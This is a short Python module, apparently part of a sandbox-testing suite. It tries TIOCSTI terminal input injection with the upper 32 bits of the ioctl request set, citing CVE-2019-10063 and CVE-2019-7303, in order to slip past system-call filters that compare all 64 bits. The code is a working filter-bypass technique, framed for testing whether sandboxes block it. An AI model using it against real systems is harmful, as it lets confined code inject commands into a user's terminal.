"""Push bytes with TIOCSTI while bits above the 32nd of the request are set.

The kernel looks at the lower 32 bits alone; a system-call filter that compares all 64 lets the call
through. The C library would cut the request, so this is the raw system call.
Source: CVE-2019-10063 (flatpak), CVE-2019-7303 (snapd), hartwork/antijack#5.
"""

import ctypes
import time

import syscalls

TIOCSTI, FIONREAD = 0x5412, 0x541B


def attempt(target):
    """Push the token through descriptor 0; the row says the upper half."""
    if target.platform != "linux":
        raise NotImplementedError("the upper half of a request is an affair of Linux system-call filters")
    waiting = ctypes.c_int(0)
    target.step("ioctl")
    for byte in target.token.encode() + b"\n":
        syscalls.syscall("ioctl", 0, target.high << 32 | TIOCSTI, ctypes.byref(ctypes.c_char(byte)))
    syscalls.syscall("ioctl", 0, FIONREAD, ctypes.byref(waiting))
    time.sleep(0.05)  # the queue is read from outside meanwhile
    if waiting.value > len(target.token):
        return target.inside("%d bytes wait in the terminal shown inside" % waiting.value)
    return "pushed"
